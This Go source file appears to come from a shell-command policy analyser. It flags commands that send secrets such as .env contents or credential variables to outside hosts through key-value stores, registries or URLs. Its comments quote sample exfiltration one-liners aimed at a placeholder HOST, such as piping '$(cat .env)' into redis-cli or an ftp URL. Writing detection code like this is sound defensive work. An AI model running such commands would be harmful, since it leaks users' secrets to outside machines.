package shell

import (
	"slices"
	"strings"

	"github.com/sluice-project/sluice/policy/effect"
)

// tells notes what a program gives to a machine of which nothing else is known than
// that its words name it, and hold a secret: redis-cli -h HOST set k "$(cat .env)".
// Whatever it does with them, that machine is who is told.
func (a *act) tells() {
	if a.guess || !a.mixed && len(a.in.sources) == 0 || tellsNobody[a.Name] || isShell(a.Name) || a.isCode() {
		return
	}
	var host string
	if takesInput[a.Name] && slices.ContainsFunc(a.in.sources, isPrivateSource) {
		if host = a.toldHost(); host == "" || a.hasJudged() {
			return
		}
		for _, source := range a.in.sources {
			a.tell(host, source)
		}
	}
	if !a.mixed {
		return
	}
	for i := range a.words() {
		if i >= len(a.Args) || !slices.ContainsFunc(a.words()[i].sources, isPrivateSource) {
			continue
		}
		if host == "" {
			if host = a.toldHost(); host == "" || a.hasJudged() {
				return
			}
		}
		for _, source := range a.words()[i].sources {
			if !a.isLogin(i, source, host) {
				a.tell(host, source)
			}
		}
	}
}

// tell notes that a host is given something private.
func (a *act) tell(host, source string) {
	name, variable := strings.CutPrefix(source, "$")
	switch {
	case variable && !isStrange(name, host), !variable && !isPrivateSource(source):
		return
	case variable:
		source = environment
	}
	a.add(effect.Effect{Verb: effect.Send, Object: host, From: source})
}

// tellsNobody are programs that print or keep their words, and those that hand them
// on to something else than the machine that they name: a container, a chart, tests.
// What git and gh give away is looked for where they do it.
var tellsNobody = valued(`echo printf test [ [[ : true export local declare typeset read set alias sed grep egrep rg awk gawk jq yq cut tr tee cat envsubst expr let date
	docker podman nerdctl buildah finch docker-compose podman-compose helm helmfile git gh glab make just task terraform tofu terragrunt pulumi
	pytest jest vitest playwright cypress locust k6 newman behave robot schemathesis ab hey wrk vegeta`)

// takesInput are stores that put away what they get on their input.
var takesInput = valued("redis-cli valkey-cli keydb-cli etcdctl consul vault bao mongosh mongo nomad")

// hasJudged reports whether the program's own verb has noted whom it talks to, and
// so what it tells them.
func (a *act) hasJudged() bool {
	for _, e := range a.r.reading.Effects[min(a.first, len(a.r.reading.Effects)):] {
		if e.Command == a.number && (e.Verb == effect.Send || e.Verb == effect.Fetch || e.Verb == effect.Connect) {
			return true
		}
	}
	return false
}

// hostFlags are the flags by which programs are told which machine to talk to.
var hostFlags = valued(`h H host hostname s server servers endpoint endpoints endpoint-url address addr http-addr registry registry-url i index-url extra-index-url default-index index repository-url
	uri url b broker brokers bootstrap-server bootstrap-servers connect cluster source node api-url api-server apiserver proxy`)

// toldHost is a machine elsewhere that the words name: the value of a flag for it, an
// address, a name with a port, or a name whose first part is put in. It is empty if
// they name none. What stands behind -- is for something else.
func (a *act) toldHost() string {
	for i, arg := range a.few(a.Args) {
		if arg == "--" {
			break
		}
		if body, dashes := cutDashes(arg); dashes > 0 {
			name, value, attached := strings.Cut(body, "=")
			if !hostFlags[name] {
				continue
			}
			if !attached && i+1 < len(a.Args) {
				value = a.Args[i+1]
			}
			value, _, _ = strings.Cut(value, ",")
			if host := hostOf(reachable(value)); isHostName(host) && isOutside(host) {
				return host
			}
			continue
		}
		host := ""
		if scheme, _, ok := strings.Cut(arg, "://"); ok {
			if isCluster(strings.ReplaceAll(scheme, "+", "")) { // not what is put into a setting: URL=https://...
				if host = hostOf(reachable(arg)); !isOutside(host) { // who asks is put in: redis://$(...)@host
					host = hostOf(reachable(arg[strings.LastIndexByte(arg, '@')+1:]))
				}
			}
		} else if host = hostNamed(arg); host == "" {
			if known := knownHost(arg); known != arg {
				host, _, _ = strings.Cut(strings.ToLower(known), " ")
			}
		}
		if isHostName(host) && isOutside(host) {
			return host
		}
	}
	return ""
}

// isLogin reports whether a word says who asks, with one value that was picked out of
// a file for it: -a "$(grep REDIS_PASSWORD .env | cut -d= -f2)". The value must not be
// another's, as far as its name tells.
func (a *act) isLogin(i int, source, host string) bool {
	word := a.Args[i]
	if strings.HasPrefix(source, "$") || !substitutes(word) || !containsAny(word, []string{"grep ", "awk ", "sed -n", "jq ", "yq "}) {
		return false
	}
	body, dashes := cutDashes(word)
	name, _, _ := strings.Cut(body, "=")
	login := dashes > 0 && loginWords[name] || strings.Contains(word, "://") && strings.Contains(word, "@")
	if i > 0 && dashes == 0 {
		body, dashes := cutDashes(a.Args[i-1])
		login = login || dashes > 0 && loginWords[body]
	}
	if !login {
		return false
	}
	for name := range strings.FieldsFuncSeq(word, func(c rune) bool { return c >= 0x80 || !isNameByte(byte(c)) }) {
		if isSecretOf(name) {
			return !isStrange(name, host)
		}
	}
	return false
}

// loginWords are the flags by which programs are told who asks.
var loginWords = valued("a p P u U pass password passwd user username token auth auth-token api-key access-token")

// tellsFiles is for stores whose words may be files: consul kv put k @file, vault kv
// put k=@file, kubectl create secret --from-file=file. To one's own store they are
// given every day; a machine elsewhere that the same line names is another matter.
func tellsFiles(a *act) {
	if !slices.ContainsFunc(a.Args, func(s string) bool { return strings.Contains(s, "@") || strings.HasPrefix(s, "--from-") }) {
		return
	}
	host := a.toldHost()
	if host == "" {
		return
	}
	for i, arg := range a.few(a.Args) {
		if flag, value, ok := strings.Cut(arg, "="); ok && (flag == "--from-file" || flag == "--from-env-file") {
			arg = value[strings.LastIndexByte(value, '=')+1:]
		} else if at := strings.LastIndexByte(arg, '@'); at == 0 || at > 0 && arg[at-1] == '=' {
			arg = arg[at+1:]
		} else if i == 0 || a.Args[i-1] != "--from-file" && a.Args[i-1] != "--from-env-file" {
			continue
		}
		a.tell(host, a.path(arg))
	}
}

// asksRegistry is a package manager that is told to look for what a file holds: the
// name of a package is told to whoever has the registry.
func asksRegistry(a *act) {
	if !a.mixed {
		return
	}
	switch a.Sub {
	case "install", "i", "add", "download", "view", "info", "show", "search", "get", "exec", "fetch", "update", "upgrade", "index":
	default:
		return
	}
	for i := range a.words() {
		if i >= len(a.Args) || strings.HasPrefix(a.Args[i], "-") || strings.Contains(a.Args[i], "://") || i > 0 && strings.HasPrefix(a.Args[i-1], "-") && !strings.Contains(a.Args[i-1], "=") {
			continue
		}
		for _, source := range a.words()[i].sources {
			if !strings.HasPrefix(source, "$") && isPrivateSource(source) {
				a.add(effect.Effect{Verb: effect.Send, Object: "registry", From: source})
			}
		}
	}
}

// tellsAddress notes that an address itself is made of something private:
// ftp ftp://"$(cat .env)"@HOST.
func (a *act) tellsAddress() {
	for i := range a.mixture() {
		if i >= len(a.Args) || len(a.words()[i].sources) == 0 {
			continue
		}
		if host := a.toldHost(); host != "" {
			for _, source := range a.words()[i].sources {
				if !a.isLogin(i, source, host) {
					a.tell(host, source)
				}
			}
		}
	}
}
